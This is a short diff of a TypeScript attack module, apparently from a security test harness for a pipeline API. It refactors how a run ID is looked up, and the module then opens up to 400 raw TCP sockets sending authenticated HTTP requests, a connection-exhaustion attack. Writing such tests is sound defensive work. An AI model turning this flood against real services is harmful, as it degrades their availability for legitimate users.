@@ -1,6 +1,6 @@
 import { connect } from "node:net";
 import type { Attack } from "../attack.ts";
-import { startRun, untilOver, waitingJobs } from "../following.ts";
+import { runIdOf, startRun, untilOver, waitingJobs } from "../following.ts";
 
 const CONNECTIONS = 400;
 
@@ -11,10 +11,8 @@ export const attack: Attack = {
   async run(target, signal) {
     const [first] = await startRun(target, "long answer", waitingJobs(1_000));
     const token = target.tokens.viewer;
-    const found = await target.call("GET", `/api/v1/pipelines/${first!.pipelineId}/runs`, { token });
-    const { list } = (found!.body as { readonly detail: { readonly list: readonly { readonly runId: string }[] } })
-      .detail;
-    const head = `GET /api/v1/pipelines/runs/${list[0]!.runId} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\n\r\n`;
+    const runId = await runIdOf(target, first!.pipelineId);
+    const head = `GET /api/v1/pipelines/runs/${runId} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\n\r\n`;
     const { hostname, port } = new URL(target.url);
     for (let opened = 0; opened < CONNECTIONS && !signal.aborted; opened++) {
       const socket = connect(Number(port), hostname);
